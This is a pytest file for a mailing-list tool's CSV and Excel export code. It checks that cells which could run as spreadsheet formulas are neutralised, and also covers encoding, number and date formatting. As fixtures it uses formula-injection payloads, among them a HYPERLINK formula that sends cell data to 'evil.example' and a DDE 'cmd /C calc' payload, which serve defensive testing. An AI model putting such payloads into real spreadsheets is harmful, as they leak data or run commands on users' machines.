"""Downloads: UTF-8 with BOM for Excel, no cell a spreadsheet would run as a formula (a leading '
in CSV, a quote-prefixed text cell in Excel), whole numbers as integers, dates as dates."""
from __future__ import annotations

import codecs
import csv
import io
from datetime import datetime

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils import get_column_letter

from cmlib.bulk.csv_input import parse_text
from cmlib.bulk.engine import ActivitySummary, LookupResult
from cmlib.bulk.export import FORMULA_PREFIXES, neutralise, open_csv_output, to_csv_bytes, to_excel_bytes
from cmlib.bulk.jobs import JobSnapshot
from cmlib.bulk.matrix import build_matrix, layout_for, summarise
from cmlib.bulk.validate import validate_table
from cmlib.bulk.view import matrix_csv, matrix_excel
from cmlib.models import SuppressedAddress
from cmlib.suppression import SuppressionIndex

EVIL_LIST = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
INPUT = (
    "Email;Comment;Phone;Имя\n"
    "anna@x.com;=1+1;+7 999 123-45-67;Анна\n"
    "ivan@x.com;@SUM(A1:A2);-5;Иван\n"
    "oleg@x.com;\tTAB;\"\rCR\";Олег\n"
    "=cmd|' /C calc'!A0;x;y;z\n"
)
HEADER_ATTACK = "Email;=Header;+Plus\na@x.com;1;2\n"


def _snapshot_of_matrix_and_summary(text=INPUT):
    bi = validate_table(parse_text(text))
    results = {
        "anna@x.com": LookupResult("anna@x.com", (("L1", "Active"), ("L2", "Unsubscribed"))),
        "ivan@x.com": LookupResult("ivan@x.com", (("L2", "Bounced"),)),
        "oleg@x.com": LookupResult("oleg@x.com", ()),
        "a@x.com": LookupResult("a@x.com", ()),
    }
    return JobSnapshot("j", bi, results, {"L1": EVIL_LIST, "L2": "-minus list"}, False, "done", None, ())


def matrix_and_summary(text=INPUT):
    snap = _snapshot_of_matrix_and_summary(text)
    layout = layout_for(snap)
    df = build_matrix(snap, layout)
    summary, _ = summarise(snap, layout)
    return df, summary, layout


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_each_dangerous_prefix(prefix):
    assert neutralise(prefix + "cmd") == "'" + prefix + "cmd"


@pytest.mark.parametrize("value", ["anna@x.com", "Active", "", " =not first", "1+1", 5, 2.5, None])
def test_neutralise_leaves_safe_values_alone(value):
    assert neutralise(value) == value


def _reader(data: bytes, delimiter=","):
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def _no_dangerous_cell(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), repr(cell)


def test_csv_download_has_bom_and_neutralised_cells_and_headers():
    df, _, _layout = matrix_and_summary()
    data = to_csv_bytes(df)
    rows = _reader(data)
    _no_dangerous_cell(rows)
    header = rows[0]
    assert "'" + EVIL_LIST in header and "'-minus list" in header
    body = {r[0]: dict(zip(header, r, strict=False)) for r in rows[1:]}
    assert body["2"]["Comment"] == "'=1+1"
    assert body["2"]["Phone"] == "'+7 999 123-45-67"
    assert body["2"]["Имя"] == "Анна"  # Cyrillic survives
    assert body["3"]["Comment"] == "'@SUM(A1:A2)" and body["3"]["Phone"] == "'-5"
    assert body["4"]["Comment"] == "'\tTAB" and body["4"]["Phone"] == "'\rCR"
    assert body["5"]["Email"] == "'=cmd|' /C calc'!A0" and body["5"]["Status"] == "invalid"
    assert body["2"]["'" + EVIL_LIST] == "subscribed"  # the word a person reads…
    assert body["2"]["'" + EVIL_LIST + " (API state)"] == "Active"  # …and the API's value for machines
    assert body["3"]["'-minus list"] == "bounced" and body["3"]["'-minus list (API state)"] == "Bounced"


def test_csv_header_cells_from_the_input_are_neutralised_too():
    df, _, _ = matrix_and_summary(HEADER_ATTACK)
    header = _reader(to_csv_bytes(df))[0]
    assert "'=Header" in header and "'+Plus" in header


def test_csv_with_semicolons_for_russian_excel():
    df, _, _ = matrix_and_summary()
    rows = _reader(to_csv_bytes(df, delimiter=";"), delimiter=";")
    assert rows[0][:3] == ["Row", "Email", "Status"]
    assert len(rows) == len(df) + 1


def test_summary_csv_includes_the_list_names_neutralised():
    _, summary, _ = matrix_and_summary()
    rows = _reader(to_csv_bytes(summary, index=True))
    assert rows[0][0] == "List"
    assert rows[1][0] == "'" + EVIL_LIST


def test_excel_download_holds_no_formula_and_shows_the_text_without_an_apostrophe():
    """Risky cells are text cells with Excel's quote-prefix style: stored as text, never run,
    and shown as given -- a literal ' would be visible to the reader in Excel."""
    df, summary, layout = matrix_and_summary()
    data = to_excel_bytes(df, state_columns=layout.list_columns, summary=summary)
    assert data[:2] == b"PK"
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Matrix", "Summary"]
    ws = wb["Matrix"]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith("'"), (cell.coordinate, cell.value)
                if cell.value.startswith(FORMULA_PREFIXES):
                    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    header = [c.value for c in ws[1]]
    assert EVIL_LIST in header and "-minus list" in header
    col = {name: i for i, name in enumerate(header)}
    assert ws.cell(row=1, column=col[EVIL_LIST] + 1).quotePrefix
    row2 = [c.value for c in ws[2]]
    assert row2[col["Comment"]] == "=1+1"
    assert row2[col["Phone"]] == "+7 999 123-45-67"
    assert row2[col["Имя"]] == "Анна"
    assert row2[col["Row"]] == 2  # numbers stay numbers
    assert not ws.cell(row=2, column=col["Имя"] + 1).quotePrefix  # only risky cells carry the style
    assert [c.value for c in ws[5]][col["Email"]] == "=cmd|' /C calc'!A0"
    active = ws.cell(row=2, column=col[EVIL_LIST] + 1)
    assert active.value == "subscribed" and active.fill.start_color.rgb.endswith("DCFCE7")
    unsubscribed = ws.cell(row=2, column=col["-minus list"] + 1)
    assert unsubscribed.value == "unsubscribed" and unsubscribed.fill.start_color.rgb.endswith("FEE2E2")
    assert row2[col[EVIL_LIST + " (API state)"]] == "Active"
    ss = wb["Summary"]
    assert ss.cell(row=2, column=1).value == EVIL_LIST and ss.cell(row=2, column=1).quotePrefix
    summary_head = [c.value for c in ss[1]]
    assert summary_head[:6] == ["List", "subscribed", "unsubscribed", "pending", "bounced", "deleted"]
    assert ss.cell(row=1, column=4).fill.start_color.rgb.endswith("FFEDD5")  # pending: orange, as on the page
    assert ss.cell(row=2, column=2).value == 1 and ss.cell(row=2, column=2).data_type == "n"


def _activity_snapshot():
    # the invalid row has no activity: a gap in the column, which used to turn every count into a float
    bi = validate_table(parse_text("Email\nanna.long.address.for.width@example-company.com\nnobody@x.com\nbroken@@x\n"))
    act = ActivitySummary(4, 3, 1, 0.75, 0.25, "Spring sale", datetime(2025, 5, 1, 10, 0))
    results = {
        "anna.long.address.for.width@example-company.com": LookupResult(
            "anna.long.address.for.width@example-company.com", (("L1", "Active"),), activity=act),
        "nobody@x.com": LookupResult("nobody@x.com", (), activity=ActivitySummary(0, 0, 0, 0.0, 0.0)),
    }
    index = SuppressionIndex("c", {"nobody@x.com": SuppressedAddress("nobody@x.com", "Spam Complaint",
                                                                    datetime(2025, 3, 4, 9, 30))})
    return JobSnapshot("j", bi, results, {"L1": "News"}, True, "done", None, (), suppression=index)


def test_counts_are_whole_numbers_and_dates_are_iso_in_csv():
    """Before: "Campaigns received" exported as "4.0" and dates as text."""
    snap = _activity_snapshot()
    rows = _reader(to_csv_bytes(build_matrix(snap)))
    body = {r[1]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    anna = body["anna.long.address.for.width@example-company.com"]
    assert anna["Campaigns received"] == "4" and anna["Open rate %"] == "75.0"
    assert anna["Last campaign sent"] == "2025-05-01 10:00:00"  # ISO 8601, which spreadsheets read as a date
    nobody = body["nobody@x.com"]
    assert nobody["Campaigns received"] == "0" and nobody["Open rate %"] == "" and nobody["Last campaign sent"] == ""
    assert nobody["Suppressed since"] == "2025-03-04 09:30:00" and nobody["Suppression reason"] == "Spam Complaint"
    assert anna["Suppressed since"] == "" and anna["Suppression reason"] == ""
    assert body["broken@@x"]["Campaigns received"] == "" and body["broken@@x"]["Status"] == "invalid"


def test_excel_has_integer_cells_date_cells_and_an_email_column_wide_enough():
    snap = _activity_snapshot()
    layout = layout_for(snap)
    summary, _ = summarise(snap, layout)
    wb = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(build_matrix(snap, layout), summary=summary,
                                                          state_columns=layout.list_columns)))
    ws = wb["Matrix"]
    header = [c.value for c in ws[1]]
    col = {name: i + 1 for i, name in enumerate(header)}
    received = ws.cell(row=2, column=col["Campaigns received"])
    assert received.value == 4 and isinstance(received.value, int) and received.data_type == "n"
    sent = ws.cell(row=2, column=col["Last campaign sent"])
    assert sent.is_date and sent.value == datetime(2025, 5, 1, 10, 0) and sent.number_format == "yyyy-mm-dd hh:mm"
    since = ws.cell(row=3, column=col["Suppressed since"])
    assert since.is_date and since.value == datetime(2025, 3, 4, 9, 30)
    assert ws.cell(row=3, column=col["Suppression reason"]).value == "Spam Complaint"
    assert ws.cell(row=2, column=col["Suppressed since"]).value is None
    email_width = ws.column_dimensions[get_column_letter(col["Email"])].width
    assert email_width >= len("anna.long.address.for.width@example-company.com")
    assert isinstance(wb["Summary"].cell(row=2, column=2).value, int)


def test_the_page_downloads_stream_the_kept_rows_like_the_whole_matrix():
    """matrix_csv/matrix_excel (the page's on-demand downloads) write what the full matrix holds."""
    df, summary, layout = matrix_and_summary()
    snap = _snapshot_of_matrix_and_summary()
    rows = range(len(snap.input.rows))
    assert matrix_csv(snap, layout, rows) == to_csv_bytes(df)
    assert matrix_csv(snap, layout, rows, delimiter=";") == to_csv_bytes(df, delimiter=";")
    wb = openpyxl.load_workbook(io.BytesIO(matrix_excel(snap, layout, rows[1:3], summary=summary)))
    assert [c.value for c in wb["Matrix"]["B"]][1:] == ["ivan@x.com", "oleg@x.com"]


def test_excel_replaces_characters_xml_cannot_hold():
    df = pd.DataFrame({"Email": ["a@x.com"], "Note": ["bell\x07 and nul\x00"]})
    wb = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(df)))
    assert wb.active["B2"].value == "bell\ufffd and nul\ufffd"


def test_streamed_csv_file_matches_the_download(tmp_path):
    df, _, _ = matrix_and_summary()
    path = tmp_path / "out.csv"
    with open_csv_output(str(path), list(df.columns)) as sink:
        for row in df.itertuples(index=False, name=None):
            sink.write(row)
    assert path.read_bytes() == to_csv_bytes(df)
